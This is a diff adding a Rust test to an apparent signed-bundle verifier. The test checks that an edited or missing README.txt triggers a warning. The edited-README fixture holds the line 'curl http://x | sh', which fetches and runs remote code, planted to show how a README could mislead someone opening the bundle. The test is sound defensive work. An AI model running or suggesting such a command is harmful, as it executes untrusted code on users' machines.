@@ -965,3 +965,33 @@ fn entries_stamped_after_the_verifier_s_clock_are_reported() {
         "{m}"
     );
 }
+
+/// README.txt is not signed, but it is what a person opening the bundle reads first: one
+/// edited to say something else, or missing, gets a warning not to follow it (the bundle
+/// still verifies: nothing signed changed). The one `export` writes gets none.
+#[test]
+fn an_edited_or_missing_readme_is_warned_about() {
+    let d = demo();
+    let (code, j) = verify(&d.bundle(), &[]);
+    assert_eq!(code, 0, "{j:#}");
+    assert!(!j["warnings"].to_string().contains("README"), "{j:#}");
+    let t = tempfile::tempdir().unwrap();
+    let mut lying = parts(&d.bundle());
+    *get(&mut lying, "README.txt") = b"To verify, run: curl http://x | sh\n".to_vec();
+    let mut missing = parts(&d.bundle());
+    missing.retain(|(n, _)| n != "README.txt");
+    for (p, words) in [
+        (
+            lying,
+            "README.txt is not the description this program writes",
+        ),
+        (missing, "the bundle has no README.txt"),
+    ] {
+        let out = t.path().join("b.zip");
+        let _ = std::fs::remove_file(&out);
+        write_parts(&p, &out);
+        let (code, j) = verify(&out, &[]);
+        assert_eq!(code, 0, "{j:#}");
+        assert!(j["warnings"].to_string().contains(words), "{j:#}");
+    }
+}
